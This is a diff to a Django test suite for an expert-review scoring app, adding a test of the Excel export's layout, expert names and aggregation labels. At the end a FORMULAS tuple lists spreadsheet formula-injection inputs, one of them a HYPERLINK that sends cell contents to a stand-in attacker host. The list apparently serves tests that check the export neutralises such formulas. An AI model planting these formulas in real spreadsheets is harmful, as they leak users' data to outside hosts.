@@ -160,6 +160,37 @@ def test_an_export_delivered_twice_is_written_once(client, people, scored, djang
     assert ExportJob.objects.get(pk=job.pk).state == ExportJob.State.READY
 
 
+def test_the_workbook_opens_ready_to_read_and_names_what_was_computed(
+    client, people, scored, django_capture_on_commit_callbacks
+):
+    """Column widths, a header that stays in view and filters on every sheet; experts by name and unit; the
+    score header says what was applied: the call asks for the trimmed mean, but three experts scored."""
+    call = scored["pizhou"].call
+    call.aggregation = "trimmed_mean"
+    call.save()
+    client.force_login(people["province"])
+    job = export(client, call, ExportJob.Kind.WORKBOOK, django_capture_on_commit_callbacks)
+    response = client.get(reverse("province:download_export", args=[job.pk]))
+    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
+
+    for sheet in workbook.worksheets:
+        assert sheet.freeze_panes == "A2"
+        assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, sheet.max_column).column_letter}{sheet.max_row}"
+        assert sheet.column_dimensions["B"].width >= 12
+
+    scores = list(workbook["专家评分"].iter_rows(values_only=True))
+    expert, unit = scores[0].index("评审专家"), scores[0].index("专家工作单位")
+    assignment = scored["pizhou"].assignments.select_related("expert").first()
+    row = next(r for r in scores[1:] if r[expert] == assignment.expert.full_name)
+    assert row[unit] == assignment.expert.memberships.get().unit.name  # 外省大学…, not an account name
+    assert not any(r[expert].startswith("user") for r in scores[1:])
+
+    ranking = list(workbook["排名"].iter_rows(values_only=True))
+    assert ranking[0][6] == "汇总得分（算术平均）" and ranking[0][7] == "汇总方式"
+    assert {r[7] for r in ranking[1:]} == {"算术平均"}
+    assert "去掉一个最高分" not in "".join(map(str, ranking[0]))
+
+
 FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1")
 
 
